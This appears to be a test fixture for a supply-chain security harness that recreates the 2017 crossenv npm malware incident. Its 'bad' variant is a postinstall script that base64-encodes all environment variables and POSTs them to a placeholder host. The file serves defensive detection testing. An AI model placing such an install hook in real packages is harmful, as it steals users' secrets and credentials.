import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'crossenv',
  after: 'crossenv and others, 2017',
  source: 'https://blog.npmjs.org/post/163723642530/crossenv-malware-on-the-npm-registry',
  shape: ['install', 'npm ci', 'environment only'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['env-cross'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: {
    'env-cross': {
      'index.js': 'module.exports = (e) => e;',
      'package.json': '{"scripts":{"postinstall":"node package-setup.js"}}',
      'package-setup.js': "require('./index')({});",
    },
  },
  benign: { 'env-cross': { 'package-setup.js': "require('./index')(process.versions);" } },
  bad: {
    'env-cross': {
      'package-setup.js': `const http = require('http'), querystring = require('querystring');
const data = querystring.stringify({ data: Buffer.from(JSON.stringify(process.env)).toString('base64') });
const r = http.request({ hostname: '@A@', port: @PORT@, path: '/log/', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(data) } });
r.on('error', () => {}); r.write(data); r.end();`,
    },
  },
  proof: [{ secret: true }],
};
